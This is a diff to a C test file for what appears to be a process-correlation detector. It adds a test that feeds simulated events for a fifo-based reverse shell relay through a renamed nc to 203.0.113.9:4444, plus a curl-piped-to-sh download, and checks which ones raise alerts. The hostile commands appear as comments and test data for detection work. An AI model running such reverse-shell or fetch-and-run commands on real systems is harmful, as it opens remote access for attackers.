@@ -97,9 +97,10 @@ static void fork_ev(struct correlate *c, uint32_t parent, uint32_t child)
 	feed(c, &f, sizeof(f));
 }
 
-/* exec of argv (spaces become the NUL separators) with stdio kinds, or inet sockets if ip. */
-static void exec_ev(struct correlate *c, uint32_t pid, uint32_t ppid, const char *exe,
-		    const char *argv, uint8_t stdio_kind, const char *ip, uint16_t port)
+/* exec of argv (spaces become the NUL separators) with stdio fds (NULL: from stdio_kind/ip). */
+static void exec_ev_fds(struct correlate *c, uint32_t pid, uint32_t ppid, const char *exe,
+			const char *argv, const struct wire_fd *fds, uint8_t stdio_kind,
+			const char *ip, uint16_t port)
 {
 	static struct wire_exec w;
 	size_t n = strlen(argv) + 1;
@@ -114,12 +115,28 @@ static void exec_ev(struct correlate *c, uint32_t pid, uint32_t ppid, const char
 			w.argv[i] = '\0';
 	w.argv_len = (uint32_t)n;
 	for (int i = 0; i < 3; i++) {
-		if (ip)
+		if (fds)
+			w.fds[i] = fds[i];
+		else if (ip)
 			inet(&w.fds[i], ip, port);
 		else
 			w.fds[i].kind = stdio_kind;
 	}
 	feed(c, &w, sizeof(w));
+}
+
+static void exec_ev(struct correlate *c, uint32_t pid, uint32_t ppid, const char *exe,
+		    const char *argv, uint8_t stdio_kind, const char *ip, uint16_t port)
+{
+	exec_ev_fds(c, pid, ppid, exe, argv, NULL, stdio_kind, ip, port);
+}
+
+static struct wire_fd pipe_fd(uint8_t kind, uint64_t ino)
+{
+	struct wire_fd f = { .kind = kind };
+
+	f.ino = ino, f.dev = kind == WIRE_FD_PIPE ? 13 : 0x1a;
+	return f;
 }
 
 static uint64_t mono(void)
@@ -285,6 +302,43 @@ static void test_seeded_processes(void)
 	correlate_free(c);
 }
 
+/* sh -i < fifo | nc host port > fifo, with a renamed nc and the connect before or after the shell's
+ * exec: a pipe-relay alert on the shell. curl | sh (one way) is not one. */
+static void test_pipe_relay(void)
+{
+	struct wire_fd tty = { .kind = WIRE_FD_TTY };
+	struct wire_fd fifo = pipe_fd(WIRE_FD_FIFO, 777), pipe = pipe_fd(WIRE_FD_PIPE, 4242);
+	struct wire_fd sh_fds[3] = { fifo, pipe, pipe }, nc_fds[3] = { pipe, fifo, tty };
+
+	for (int connect_first = 0; connect_first < 2; connect_first++) {
+		struct correlate *c = fresh(false);
+
+		if (connect_first) {
+			exec_ev_fds(c, 1002, 1000, "/tmp/x", "x 203.0.113.9 4444", nc_fds, 0, NULL, 0);
+			sock_ev(c, WIRE_C_CONNECT, 1002, 3, 0, "203.0.113.9", 4444);
+			exec_ev_fds(c, 1001, 1000, "/bin/sh", "/bin/sh -i", sh_fds, 0, NULL, 0);
+		} else {
+			exec_ev_fds(c, 1001, 1000, "/bin/sh", "/bin/sh -i", sh_fds, 0, NULL, 0);
+			exec_ev_fds(c, 1002, 1000, "/tmp/x", "x 203.0.113.9 4444", nc_fds, 0, NULL, 0);
+			CHECKF(ngot == 0, "%u alerts before the connect", ngot);
+			sock_ev(c, WIRE_C_CONNECT, 1002, 3, 0, "203.0.113.9", 4444);
+		}
+		CHECKF(ngot == 1, "connect_first=%d: %u alerts", connect_first, ngot);
+		CHECK(ngot && got[0].pid == 1001 && (got[0].signals & SIG_PIPE_RELAY));
+		CHECK(ngot && got[0].has_peer && got[0].peer.pport == 4444);
+		correlate_free(c);
+	}
+
+	struct correlate *c = fresh(false);
+	struct wire_fd curl_fds[3] = { tty, pipe, tty }, sh1_fds[3] = { pipe, tty, tty };
+
+	exec_ev_fds(c, 1011, 1010, "/usr/bin/curl", "curl -s http://203.0.113.9/i", curl_fds, 0, NULL, 0);
+	exec_ev_fds(c, 1012, 1010, "/bin/sh", "sh", sh1_fds, 0, NULL, 0);
+	sock_ev(c, WIRE_C_CONNECT, 1011, 3, 0, "203.0.113.9", 80);
+	CHECKF(ngot == 0, "curl | sh: %u alerts", ngot);
+	correlate_free(c);
+}
+
 int main(void)
 {
 	RUN(test_reverse_shell_child);
@@ -294,5 +348,6 @@ int main(void)
 	RUN(test_confirmed_absorbs_held);
 	RUN(test_exit_frees);
 	RUN(test_seeded_processes);
+	RUN(test_pipe_relay);
 	return tap_done();
 }
